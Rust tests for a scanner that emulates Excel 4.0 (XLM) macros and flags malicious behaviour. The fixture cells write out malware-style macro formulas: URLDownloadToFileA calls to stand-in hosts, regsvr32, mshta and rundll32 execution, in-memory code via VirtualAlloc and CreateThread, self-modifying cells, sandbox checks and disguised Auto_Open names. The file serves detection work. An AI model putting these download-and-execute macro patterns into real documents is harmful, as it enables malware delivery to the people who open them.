//! Workbooks built by hand and from the fixtures: what their macros would do.

use super::{Entry, Target, run};
use crate::{
    Budget, Hints, Kind, Relation,
    scan::{About, Scan},
    xlm::{
        model::{Cell, Name, Sheet, SheetKind, Value, Workbook},
        reference,
        text::parse_formula,
    },
};

/// 2021-11-12.
const DATE: i64 = 1_636_718_400;

/// A macro sheet `M` from lines `A1 =FORMULA` or `B2 text` or `B3 12`, with `Auto_Open` at `entry`.
fn book(cells: &str, entry: Option<&str>) -> Workbook {
    let mut book = Workbook::default();
    book.sheets.push(Sheet { name: "M".into(), kind: SheetKind::Macro, ..Sheet::default() });
    for line in cells.lines().map(str::trim).filter(|l| !l.is_empty()) {
        let (at, content) = line.split_once(' ').unwrap();
        let at = reference::a1(at).unwrap();
        let mut cell = Cell::default();
        if content.starts_with('=') {
            cell.formula = parse_formula(content, (0, at.0, at.1), false, &mut book);
            assert!(cell.formula.is_some(), "{content}");
        } else if let Ok(n) = content.parse() {
            cell.value = Value::Number(n);
        } else {
            cell.value = Value::Text(content.trim_matches('\'').into());
        }
        book.sheets[0].cells.insert(at, cell);
    }
    if let Some(entry) = entry {
        let formula = parse_formula(&format!("M!{entry}"), (0, 0, 0), false, &mut book);
        book.names.push(Name { label: "Auto_Open".into(), formula, ..Name::default() });
    }
    book
}

fn told(book: &mut Workbook, entries: &[Entry]) -> String {
    let hints = Hints { date: Some(DATE), ..Hints::default() };
    let mut budget = Budget::new(1 << 20);
    let about =
        About { name: "t.xls".into(), kind: Kind::Ole, declared: None, relation: Relation::Input, depth: 0 };
    let mut scan = Scan::new(about, &hints, &mut budget);
    run(book, entries, &mut scan);
    let mut out = String::new();
    for f in &scan.findings {
        out += &format!("{:?} {:?} {} @{} {}\n", f.severity, f.derived, f.id.name(), f.location, f.evidence);
    }
    for i in &scan.indicators {
        out += &format!("{:?} {}\n", i.kind, i.value);
    }
    out
}

/// What the macros of these cells would do, from `A1` on.
fn check(cells: &str) -> String {
    told(&mut book(cells, Some("$A$1")), &[])
}

/// The value of a formula, as `ALERT` would show it.
fn value(formula: &str, cells: &str) -> String {
    let mut book = book(&format!("{cells}\nZ1 =EXEC(\"<\"&{formula}&\">\")"), Some("$Z$1"));
    let told = told(&mut book, &[]);
    let line = told.lines().find(|l| l.starts_with("Cmdline ")).unwrap_or("Cmdline none").to_owned();
    line.trim_start_matches("Cmdline ").to_owned()
}

fn fires(told: &str, id: &str) -> bool {
    told.lines().any(|l| l.contains(&format!(" {id} @")))
}

#[test]
fn a_download_and_a_program_are_told_with_what_they_name() {
    let told = check(
        r#"A1 =CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://a.test/"&B1,"C:\x\y.ocx",0,0)
           A2 =EXEC("regsvr32 -s C:\x\y.ocx")
           A3 =HALT()
           B1 'f.dat"#,
    );
    for line in [
        r#"Critical Emulated XLM-DOWNLOAD @sheet "M" > A1 urlmon URLDownloadToFileA JJCCJJ 0 http://a.test/f.dat C:\x\y.ocx 0 0"#,
        r#"Critical Emulated XLM-EXEC @sheet "M" > A2 regsvr32 -s C:\x\y.ocx"#,
        r"DropPath C:\x\y.ocx",
        "Url http://a.test/f.dat",
        "Api URLDownloadToFileA",
    ] {
        assert!(told.contains(line), "{line}\n{told}");
    }
}

#[test]
fn what_only_calculates_is_silent() {
    let told = check(
        r#"A1 =SET.NAME("n",SUM(B1:B3))
           A2 =FORMULA(n*2,C1)
           A3 =ALERT("Report updated")
           A4 =SELECT(B1)
           A5 =RETURN()
           B1 1
           B2 2"#,
    );
    assert_eq!(told, "Medium Static XLM-AUTOEXEC @sheet \"M\" > A1 Auto_Open -> $A$1\n".replace('$', ""));
}

#[test]
fn without_an_entry_formulas_are_read() {
    let mut book = book("A1 =IF(B1>3,EXEC(\"mshta http://a.test/x.hta\"),)\nA2 =HALT()", None);
    let told = told(&mut book, &[]);
    assert!(
        fires(&told, "XLM-EXEC") && fires(&told, "XLM-DOWNLOAD") && !fires(&told, "XLM-AUTOEXEC"),
        "{told}"
    );
    assert!(told.contains("High Static XLM-LOLBIN"), "{told}");
}

#[test]
fn entries_from_elsewhere_run() {
    let cells = "C3 =EXEC(\"rundll32 a.dll,b\")\nC4 =HALT()";
    for target in [
        Target::Cell(0, (2, 2)),
        Target::Name("M!C3".into()),
        Target::Name("M!R3C3".into()),
        Target::Formula("RUN(M!C3)".into()),
        Target::Formula("EXEC(\"rundll32 a.dll,b\")".into()),
    ] {
        let entry = Entry { target: target.clone(), auto: true };
        let told = told(&mut book(cells, None), &[entry]);
        assert!(told.contains("Critical Emulated XLM-EXEC"), "{target:?}\n{told}");
    }
}

#[test]
fn functions() {
    let cells = "B1 'abcdef\nB2 3\nB3 '526.\nB4 0.5\nC1 10\nC2 20\nC3 30";
    for (formula, result) in [
        ("MID(B1,2,3)", "bcd"),
        ("LEFT(B1)&RIGHT(B1,2)", "aef"),
        ("B3&B2&B4", "526.30.5"),
        ("UPPER(\"ab\")&LOWER(\"AB\")&PROPER(\"ab cd\")", "ABabAb Cd"),
        ("SUBSTITUTE(\"a-b-c\",\"-\",\"+\",2)", "a-b+c"),
        ("REPLACE(\"abcdef\",2,3,\"X\")", "aXef"),
        ("REPT(\"ab\",3)", "ababab"),
        ("SEARCH(\"C?E\",B1)", "3"),
        ("FIND(\"d\",B1)", "4"),
        ("ISNUMBER(SEARCH(\"zz\",B1))", "FALSE"),
        ("CHAR(65)&CHAR(128)", "A€"),
        ("CODE(\"€\")", "128"),
        ("MOD(-7,3)&MOD(7,-3)", "2-2"),
        ("ROUND(2.5,0)&ROUND(-2.5,0)&INT(-0.5)&TRUNC(-1.7)", "3-3-1-1"),
        ("QUOTIENT(7,2)&SQRT(16)&POWER(2,10)", "341024"),
        ("SUM(C1:C3)&MAX(C1:C3)&MIN(C1:C3)&AVERAGE(C1:C3)", "60301020"),
        ("INDEX(C1:C3,2)", "20"),
        ("OFFSET(C1,2,0)", "30"),
        ("INDIRECT(\"C\"&2)", "20"),
        ("MATCH(20,C1:C3,0)", "2"),
        ("VLOOKUP(20,C1:C3,1,FALSE)", "20"),
        ("ADDRESS(3,28)", "$AB$3"),
        ("IF(B2>2,\"y\",\"n\")", "y"),
        ("CHOOSE(2,\"a\",\"b\")", "b"),
        ("HEX2DEC(\"FF\")&DEC2HEX(255)", "255FF"),
        ("IFERROR(1/0,\"e\")", "e"),
        ("TEXT(7,\"000\")", "007"),
        ("AND(TRUE,B2=3)&OR(FALSE,FALSE)&NOT(TRUE)", "TRUEFALSEFALSE"),
        ("DAY(DATE(2021,11,26))", "26"),
        ("TRIM(\"  a  b \")&LEN(\"abc\")", "a b3"),
        ("SUM({1,2;3,4})", "10"),
        ("-B2^2", "9"),
        ("DAY(NOW())", "12"),
        ("GET.WORKSPACE(13)", "1440"),
    ] {
        assert_eq!(value(formula, cells), format!("<{result}>"), "{formula}");
    }
}

#[test]
fn unknown_parts_keep_what_is_known() {
    assert_eq!(value("\"a\"&RAND()&\"b\"", ""), "<a?b>");
    assert_eq!(value("UPPER(\"a\"&RAND())", ""), "<A?>");
}

#[test]
fn blocks_loops_and_calls() {
    let told = check(
        r#"A1 =IF(1=2)
           A2 =EXEC("never")
           A3 =ELSE.IF(2=2)
           A4 =SET.NAME("s","")
           A5 =FOR("i",1,3)
           A6 =SET.NAME("s",s&i)
           A7 =NEXT()
           A8 =ELSE()
           A9 =EXEC("neither")
           A10 =END.IF()
           A11 =WHILE(LEN(s)<6)
           A12 =SET.NAME("s",s&"x")
           A13 =NEXT()
           A14 =EXEC(s&D1("q"))
           A15 =HALT()
           D1 =ARGUMENT("p")
           D2 =RETURN(p&"!")"#,
    );
    assert!(told.contains("Cmdline 123xxxq!"), "{told}");
    assert!(told.contains("High Static XLM-EXEC @sheet \"M\" > A9 neither"), "{told}");
}

#[test]
fn both_ways_of_an_answer_from_outside_are_taken() {
    let told = check(
        r#"A1 =CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"http://a.test/1","C:\a.dll",0,0)
           A2 =IF(A1<0,GOTO(B1),GOTO(C1))
           B1 =EXEC("first")
           B2 =HALT()
           C1 =EXEC("second")
           C2 =HALT()"#,
    );
    assert!(told.contains("Cmdline first") && told.contains("Cmdline second"), "{told}");
    assert!(!fires(&told, "XLM-ANTIANALYSIS"), "{told}");
}

#[test]
fn what_ends_where_it_is_watched_is_named() {
    let told = check("A1 =IF(GET.WORKSPACE(19),,CLOSE(TRUE))\nA2 =EXEC(\"x.exe\")");
    assert!(fires(&told, "XLM-ANTIANALYSIS") && fires(&told, "XLM-EXEC"), "{told}");
    let told = check("A1 =IF(GET.WORKSPACE(13)<770,ALERT(\"small\"),)\nA2 =HALT()");
    assert!(!fires(&told, "XLM-ANTIANALYSIS"), "{told}");
}

#[test]
fn registered_functions_run_by_their_alias_and_number() {
    let told = check(
        r#"A1 =REGISTER("urlmon","URLDownloadToFileA","JJCCJJ","Belan",,1,9)
           A2 =NOW()=NOW()=Belan(0,"http://a.test/44526.dat","..\f.dll",0,0)
           A3 =CALL(A1,0,"http://b.test/x","..\g.dll",0,0)
           A4 =HALT()"#,
    );
    for line in
        ["Url http://a.test/44526.dat", "Url http://b.test/x", r"DropPath ..\f.dll", r"DropPath ..\g.dll"]
    {
        assert!(told.contains(line), "{line}\n{told}");
    }
    assert!(fires(&told, "XLM-REGISTER"));
}

#[test]
fn written_cells_run_and_chains_have_all_their_effects() {
    let told = check(
        r#"A1 =FORMULA("=EX"&B1,A3)=FORMULA("=HALT()",A4)=FORMULA("junk",C1)
           A3 0
           B1 'EC("calc.exe")"#,
    );
    assert!(told.contains("Cmdline calc.exe") && fires(&told, "XLM-SELFMOD"), "{told}");
    assert!(fires(&told, "XLM-OBF-FRAGMENT"), "{told}");
}

#[test]
fn code_in_memory_is_critical() {
    let told = check(
        r#"A1 =CALL("Kernel32","VirtualAlloc","JJJJJ",0,4096,4096,64)
           A2 =CALL("Kernel32","RtlCopyMemory","JJCJ",A1,"AAAA",4)
           A3 =CALL("Kernel32","CreateThread","JJJJJJJ",0,0,A1,0,0,0)
           A4 =HALT()"#,
    );
    assert!(told.contains("Critical Emulated XLM-MEMORY"), "{told}");
}

#[test]
fn names_that_hide_what_they_are() {
    for (label, disguised) in [("Auto_Open", false), ("auto_open5xq", true), ("Au\u{200B}to_op\u{1}en", true)]
    {
        let mut book = book("A1 =HALT()", Some("$A$1"));
        book.names[0].label = label.into();
        let told = told(&mut book, &[]);
        assert!(fires(&told, "XLM-AUTOEXEC"), "{label}");
        assert_eq!(told.contains("High Static XLM-NAME-OBFUSC"), disguised, "{label}");
    }
    let mut book = book("A1 =HALT()", Some("$A$1"));
    book.names[0].label = "Automobile".into();
    assert_eq!(told(&mut book, &[]), "");
}

#[test]
fn chains_and_nests_of_any_depth_end() {
    let deep = format!("A1 ={}1{}", "ABS(".repeat(60), ")".repeat(60));
    check(&deep);
    let chain = format!("A1 =FORMULA({}\"c\",B9)\nA2 =EXEC(\"x\")", "\"ab\"&".repeat(900));
    assert!(check(&chain).contains("Cmdline x"));
    let equals = format!("A1 ={}EXEC(\"last\")", "NOW()=".repeat(900));
    assert!(check(&equals).contains("Cmdline last"));
    let endless = check("A1 =GOTO(A2)\nA2 =GOTO(A1)\nA3 =EXEC(\"cmd /c x\")");
    assert!(fires(&endless, "XLM-EMU-LIMIT") && fires(&endless, "XLM-EXEC"), "{endless}");
    let calls = check("A1 =RUN(A1)\nA2 =RETURN()");
    assert!(fires(&calls, "XLM-EMU-LIMIT"), "{calls}");
}

/// A formula from a seed: functions of all groups around references, texts and numbers.
fn formula_from(seed: &mut impl Iterator<Item = u8>, depth: u32) -> String {
    const LEAVES: [&str; 12] = [
        "B1",
        "A1:C9",
        "\"x\"",
        "1E+300",
        "-1",
        "0.5",
        "R9",
        "TRUE",
        "\"=A1()\"",
        "NOW()",
        "n",
        "{1,2;3,\"a\"}",
    ];
    const CALLS: [&str; 40] = [
        "CHAR",
        "MID",
        "REPT",
        "SUBSTITUTE",
        "SEARCH",
        "REPLACE",
        "TEXT",
        "ROUND",
        "MOD",
        "INDEX",
        "OFFSET",
        "INDIRECT",
        "MATCH",
        "VLOOKUP",
        "ADDRESS",
        "IF",
        "CHOOSE",
        "GET.CELL",
        "GET.WORKSPACE",
        "DATE",
        "FORMULA",
        "FORMULA.FILL",
        "SET.VALUE",
        "SET.NAME",
        "CALL",
        "REGISTER",
        "EXEC",
        "FOPEN",
        "FWRITE",
        "GOTO",
        "RUN",
        "WHILE",
        "FOR.CELL",
        "NEXT",
        "RETURN",
        "ARGUMENT",
        "DEC2HEX",
        "EVALUATE",
        "SELECT",
        "DAY",
    ];
    const SIGNS: [&str; 8] = ["+", "-", "*", "/", "^", "&", "=", "<"];
    let mut next = || usize::from(seed.next().unwrap_or(0));
    let (kind, pick) = (next(), next());
    if depth == 0 || kind < 60 {
        return LEAVES[pick % LEAVES.len()].to_owned();
    }
    if kind < 120 {
        let (a, b) = (formula_from(seed, depth - 1), formula_from(seed, depth - 1));
        return format!("({a}{}{b})", SIGNS[pick % SIGNS.len()]);
    }
    let count = kind % 5;
    let args: Vec<String> = (0..count).map(|_| formula_from(seed, depth - 1)).collect();
    format!("{}({})", CALLS[pick % CALLS.len()], args.join(","))
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig { cases: 64, failure_persistence: None, ..Default::default() })]
    #[test]
    fn any_formulas_end_within_their_steps(seed in proptest::collection::vec(proptest::prelude::any::<u8>(), 0..600)) {
        let mut bytes = seed.into_iter();
        let mut book = book("B1 'text\nB2 7\nC9 'a", Some("$A$1"));
        for row in 0..8 {
            let text = formula_from(&mut bytes, 5);
            let formula = parse_formula(&text, (0, row, 0), true, &mut book);
            book.sheets[0].cells.insert((row, 0), Cell { formula, ..Cell::default() });
        }
        let before = book.exprs.len();
        told(&mut book, &[]);
        // What a macro can make the machine parse is bounded by its steps as well.
        proptest::prop_assert!(book.exprs.len() < before + 4_000_000);
    }
}

#[test]
fn zzz_fixtures() {
    let filter = std::env::var("F").unwrap_or_default();
    for entry in std::fs::read_dir(concat!(env!("CARGO_MANIFEST_DIR"), "/../../fixtures/files/xlm")).unwrap()
    {
        let name = entry.unwrap().file_name().into_string().unwrap();
        if !name.contains(&filter) || name.contains("slk") {
            continue;
        }
        let mut book = crate::xlm::tests::workbook(&format!("xlm/{name}"));
        let start = std::time::Instant::now();
        let told = told(&mut book, &[]);
        println!("=== {name} {:?}\n{told}", start.elapsed());
    }
}
